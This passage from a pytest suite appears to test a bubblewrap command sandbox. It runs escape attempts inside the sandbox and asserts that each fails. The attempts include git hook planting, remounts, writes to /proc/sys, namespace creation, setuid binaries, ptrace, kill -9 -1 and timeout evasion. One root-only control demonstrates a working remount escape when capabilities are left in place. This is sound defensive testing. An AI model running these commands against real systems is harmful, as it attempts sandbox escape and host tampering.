        f"echo pwn > {box.ws}/.git/hooks/pre-commit; echo .. > {gitdir}/commondir; "
        f"echo '[core]' > {gitdir}/config.worktree; mkdir {box.ws}/.git/worktrees/x; "
        f"echo notes > {box.ws}/notes.txt; echo wt > in-wt.txt; git add in-wt.txt; "
        "git commit -q -m in-worktree; git status --short --branch",
        workspace=worktree,
        extra_roots=[box.ws],
        env=GIT_IDENTITY,
    )
    assert not (box.ws / ".git" / "hooks" / "pre-commit").exists()
    assert (gitdir / "commondir").read_bytes() == common
    assert not (gitdir / "config.worktree").exists()
    assert sorted(p.name for p in (box.ws / ".git" / "worktrees").iterdir()) == ["wt"]
    assert (box.ws / "notes.txt").read_text() == "notes\n"  # neighbour: the extra root is writable
    assert "## wt" in outcome.text  # neighbour: git works in the worktree
    log = box.git("log", "--format=%s", "wt", cwd=worktree)
    assert log.stdout.split() == ["in-worktree", "init"]  # ... and commits there
    read_only = box.run(
        f"echo pwn > {gitdir}/HEAD; git commit -q --allow-empty -m no 2>&1",
        workspace=worktree,
        extra_roots=[box.ws],
        env=GIT_IDENTITY,
        git_read_only=True,
    )
    assert (gitdir / "HEAD").read_text() == "ref: refs/heads/wt\n"
    assert "Read-only file system" in read_only.text


def test_the_read_only_capability_cannot_write_the_workspace(box: Box) -> None:
    box.run("touch made; echo pwn >> README.md", capability="read-only")
    assert not (box.ws / "made").exists()
    assert (box.ws / "README.md").read_text() == "hello"
    box.run("touch made", capability="edit-workspace")
    assert (box.ws / "made").exists()  # neighbour


def test_a_working_directory_outside_the_roots_is_refused_before_running(box: Box) -> None:
    name = marker()
    outcome = box.run(f"touch {name}", cwd=box.sibling)
    assert outcome.error is not None and "outside the roots" in outcome.error
    assert not (box.sibling / name).exists()
    box.mkdir(box.ws / "sub")
    box.run(f"touch {name}", cwd=box.ws / "sub")
    assert (box.ws / "sub" / name).exists()  # neighbour


# === privileges and kernel surface ===========================================


def test_remounting_the_root_read_write_fails(box: Box) -> None:
    name = marker()
    outcome = box.run(
        f"mount -o remount,rw /; mount -o remount,bind,rw /etc; touch /{name} /etc/{name}; "
        f"mount --bind {box.ws} /etc; mount -t tmpfs none /mnt; grep CapEff /proc/self/status; "
        + syscalls(("mount", nr("mount"), (0, 0, 0, 0, 0)))
    )
    assert not Path(f"/{name}").exists() and not Path(f"/etc/{name}").exists()
    assert "CapEff:\t0000000000000000" in outcome.text
    assert "mount=EPERM" in outcome.text
    if box.uid == 0:  # control: the same remount under bwrap *without* --cap-drop ALL escapes
        target = box.mkdir(box.dir / "control")
        bwrap = locate()
        subprocess.run(
            [bwrap, "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-all",
             "--unshare-user", "--ro-bind", str(target), str(target), "sh", "-c",
             f"mount -o remount,bind,rw {target} && touch {target}/escaped"],
            capture_output=True, check=False,
        )
        assert (target / "escaped").exists()


def test_host_kernel_knobs_under_proc_cannot_be_opened_for_writing(box: Box) -> None:
    """``/proc/sys`` (host-wide sysctls such as ``kernel.core_pattern``),
    ``/proc/irq/*/smp_affinity``, ``/proc/sysrq-trigger`` and PCI config space
    are owned by root with owner-write modes and act on the host. A root caller
    is root inside too (uid 0 maps to 0), so the file mode alone lets it open
    them, capabilities or not: they must be read-only mounts. Files are opened
    for appending and closed without a byte written; one sysctl is written with
    the value it has."""
    outcome = box.run(
        "for f in /proc/irq/*/smp_affinity /proc/sysrq-trigger /proc/bus/pci/*/*"
        " /proc/sys/kernel/core_pattern /proc/sys/fs/protected_symlinks; do"
        ' [ -e "$f" ] && (exec 3>>"$f") 2>/dev/null && echo "OPENED $f"; done;'
        # a host-wide sysctl written with the value it already has: no change if it works
        " v=$(cat /proc/sys/fs/lease-break-time);"
        ' echo "$v" > /proc/sys/fs/lease-break-time 2>/dev/null && echo SYSCTL-WRITTEN;'
        " cat /proc/irq/*/smp_affinity 2>/dev/null | head -1 | grep -q . && echo read-ok; true"
    )
    assert "OPENED" not in outcome.text and "SYSCTL-WRITTEN" not in outcome.text, outcome.text
    if os.path.exists("/proc/irq"):
        assert "read-ok" in outcome.text  # neighbour: reading them works


def test_a_user_namespace_cannot_be_created(box: Box) -> None:
    outcome = box.run(
        "unshare -U true; echo rc=$?; unshare -Ur id; "
        "echo 1000 > /proc/sys/user/max_user_namespaces; echo limit_rc=$?; "
        + syscalls(("unshare", nr("unshare"), (0x10000000,)), ("clone3", nr("clone3"), (0, 0)))
    )
    assert "rc=0" not in outcome.text and "limit_rc=" in outcome.text
    assert "unshare=EPERM" in outcome.text and "clone3=ENOSYS" in outcome.text
    assert box.host("unshare", "-U", "true").returncode == 0  # neighbour: it works on the host


def test_chroot_pivot_root_and_setns_fail(box: Box) -> None:
    outcome = box.run(
        "chroot / true; echo rc=$?; "
        + syscalls(
            ("chroot", nr("chroot"), (0,)),
            ("pivot_root", nr("pivot_root"), (0, 0)),
            ("setns", nr("setns"), (-1, 0)),
        )
    )
    assert "rc=0" not in outcome.text
    for name in ("chroot", "pivot_root", "setns"):
        assert f"{name}=EPERM" in outcome.text


def test_kernel_attack_surface_syscalls_are_refused(box: Box) -> None:
    outcome = box.run(
        syscalls(
            ("io_uring_setup", nr("io_uring_setup"), (1, 0)),
            ("bpf", nr("bpf"), (0, 0, 0)),
            ("keyctl", nr("keyctl"), (0, 0)),
            ("add_key", nr("add_key"), (0, 0, 0, 0, 0)),
            ("perf_event_open", nr("perf_event_open"), (0, 0, -1, -1, 0)),
            ("userfaultfd", nr("userfaultfd"), (0,)),
            ("open_tree", nr("open_tree"), (-100, 0, 0)),
            ("fsopen", nr("fsopen"), (0, 0)),
            ("init_module", nr("init_module"), (0, 0, 0)),
            ("getpid", 39 if nr("ioctl") == 16 else 172, ()),
        )
    )
    for name in ("bpf", "keyctl", "add_key", "perf_event_open", "userfaultfd", "init_module"):
        assert f"{name}=EPERM" in outcome.text
    for name in ("io_uring_setup", "open_tree", "fsopen"):
        assert f"{name}=ENOSYS" in outcome.text
    assert "getpid=ok" in outcome.text  # neighbour


def test_setuid_binaries_grant_nothing(box: Box) -> None:
    if os.getuid() != 0:
        pytest.skip("making a setuid-root binary needs root")
    suid = box.ws / "suid-cat"
    shutil.copy("/usr/bin/cat", suid)
    os.chown(suid, 0, 0)
    suid.chmod(0o4755)
    outcome = box.run("./suid-cat /proc/self/status | grep -E '^(Uid|CapEff)'")
    uid_line = next(line for line in outcome.text.splitlines() if line.startswith("Uid:"))
    effective = uid_line.split()[2]
    assert effective == str(box.uid)  # no euid change (for root: still mapped root, no caps)
    assert "CapEff:\t0000000000000000" in outcome.text
    if box.uid != 0:  # neighbour: on the host the same binary does escalate
        host = box.host(str(suid), "/proc/self/status")
        assert "Uid:\t" in host.stdout and host.stdout.split("Uid:\t")[1].split()[1] == "0"


def test_a_host_process_cannot_be_killed_or_traced(box: Box) -> None:
    needle = f"sleep 47.{secrets.randbelow(999)}"
    prefix = [] if box.uid == os.getuid() else [
        "setpriv", f"--reuid={box.uid}", f"--regid={box.gid}", "--clear-groups"
    ]
    victim = subprocess.Popen([*prefix, *needle.split()])
    try:
        time.sleep(0.05)
        outcome = box.run(
            f"kill -9 {victim.pid}; echo kill-rc=$?; "
            + syscalls(("ptrace", nr("ptrace"), (16, victim.pid, 0, 0)))
            + "; sleep 5 & kill -9 $!; wait $!; echo child-status=$?"
        )
        assert victim.poll() is None  # still alive
    finally:
        victim.kill()
        victim.wait()
    assert "kill-rc=0" not in outcome.text
    assert "ptrace=EPERM" in outcome.text
    assert "child-status=137" in outcome.text  # neighbour: its own children are fair game


# === process lifetime and resources ==========================================


def test_a_command_cannot_reach_what_runs_it_or_the_next_command(box: Box) -> None:
    """``kill -9 -1`` signals every process the command may signal. In a
    session's sandbox the fork server, the other commands' processes and the
    spare pid 1 made for the next command share the user and the sandbox: they
    must all be out of its reach, so the next command still runs."""
    first = "sleep 31.7 & kill -9 -1; wait $!; echo own-child-$?"
    outcome = box.run(first)
    assert "own-child-137" in outcome.text  # neighbour: its own processes it can kill
    outcome = box.run(first, then="echo still here; ls /proc | grep -cE '^[0-9]+$'")
    assert outcome.error is None and outcome.exit_code == 0, outcome
    lines = outcome.text.split()
    assert lines[:2] == ["still", "here"]
    assert int(lines[2]) <= 4  # pid 1, the shell, ls, grep: nothing of anyone else


def test_a_daemon_does_not_survive_its_command(box: Box) -> None:
    needle = f"sleep 48.{secrets.randbelow(999)}"
    outcome = box.run(
        f"setsid sh -c 'echo $$ > daemon.pid; exec {needle}' > /dev/null 2>&1 < /dev/null & "
        "while [ ! -s daemon.pid ]; do sleep 0.01; done; kill -0 $(cat daemon.pid) && echo daemon-alive"
    )
    assert "daemon-alive" in outcome.text  # the daemon really started
    assert wait_gone(needle) == []


def test_a_crashed_governor_takes_its_sandboxes_with_it(box: Box) -> None:
    needle = f"sleep 49.{secrets.randbelow(999)}"
    env = {"PYTHONPATH": f"{REPO}:{os.pathsep.join(sys.path)}", "PATH": "/usr/bin:/bin", "HOME": str(box.home)}
    prefix = [] if box.uid == os.getuid() else [
        "setpriv", f"--reuid={box.uid}", f"--regid={box.gid}", "--init-groups"
    ]
    python = sys.executable if box.uid == os.getuid() else _user_python(box)
    governor = subprocess.Popen(
        [*prefix, python, str(DRIVER)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        env=env, cwd=box.dir, text=True,
    )
    try:
        assert governor.stdout is not None and governor.stdin is not None
        governor.stdout.readline()
        import json

        request = {
            "argv": ["/bin/sh", "-c", needle], "output_limit": 1024, "timeout": 60,
            "profile": {"capability": "edit-workspace", "workspace": str(box.ws), "home": str(box.home)},
            "via": box.via,
        }
        governor.stdin.write(json.dumps(request) + "\n")
        governor.stdin.flush()
        deadline = time.monotonic() + 20
        # bwrap, its pid 1 and the shell carry the needle; in a session only the shell
        started = 3 if box.via == "command" else 1
        while len(processes_matching(needle)) < started and time.monotonic() < deadline:
            time.sleep(0.02)
        assert processes_matching(needle), "the sandboxed command never started"
        governor.kill()  # SIGKILL: no cleanup code runs
    finally:
        governor.kill()
        governor.wait()
    assert wait_gone(needle) == []


def _user_python(box: Box) -> str:
    """The interpreter the unprivileged driver uses (/proc of its process)."""
    assert box.account.driver is not None
    for pid in processes_matching(str(DRIVER)):
        exe = os.readlink(f"/proc/{pid}/exe")
        if os.stat(f"/proc/{pid}").st_uid == box.uid:
            return exe
    raise AssertionError("the unprivileged driver is not running")


def test_flooding_output_keeps_memory_bounded(box: Box) -> None:
    limit = 64 * 1024
    outcome = box.run("head -c 300000000 /dev/zero; echo END", output_limit=limit)
    assert outcome.total == 300_000_004
    assert outcome.truncated
    assert outcome.text.endswith("END\n") and len(outcome.text) <= limit
    assert outcome.peak <= limit + 64 * 1024
    if box.account.driver is not None:
        assert outcome.maxrss_kib < 200 * 1024  # the driver never held the flood


def test_running_past_the_timeout_is_killed_with_everything_it_started(box: Box) -> None:
    needle = f"sleep 50.{secrets.randbelow(999)}"
    outcome = box.run(f"{needle} & setsid {needle} & {needle}", timeout=1.5)
    assert outcome.timed_out and outcome.signal == "SIGKILL"
    assert wait_gone(needle) == []
    quick = box.run("sleep 0.1; echo done", timeout=20)
    assert (quick.exit_code, quick.text, quick.timed_out) == (0, "done\n", False)  # neighbour


def test_the_suite_runs_as_the_user_it_claims(box: Box) -> None:
    outcome = box.run("id -u; grep -E '^(Seccomp|NoNewPrivs|CapEff)' /proc/self/status")
    lines = outcome.text.split()
    assert lines[0] == str(box.uid)
    assert box.user == "root" or box.uid != 0
    assert "0000000000000000" in lines and lines[lines.index("Seccomp:") + 1] == "2"
